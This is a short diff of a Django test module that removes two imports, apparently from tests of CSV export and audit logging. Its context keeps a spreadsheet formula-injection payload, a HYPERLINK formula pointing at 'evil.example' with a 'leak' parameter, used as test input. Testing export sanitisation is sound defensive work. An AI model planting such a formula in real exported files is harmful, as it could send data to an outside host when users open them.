@@ -7,13 +7,11 @@ import csv
 import io
 import json
 
-import pytest
 from django.urls import reverse
 
 from mekendesh.audit.models import AuditEvent
 from mekendesh.people.models import NameForm, Script
 from mekendesh.people.services import NameInput, name_add
-from mekendesh.people.tests.migrant_support import aigerim, client  # noqa: F401  (fixtures)
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak","Click me")'
 
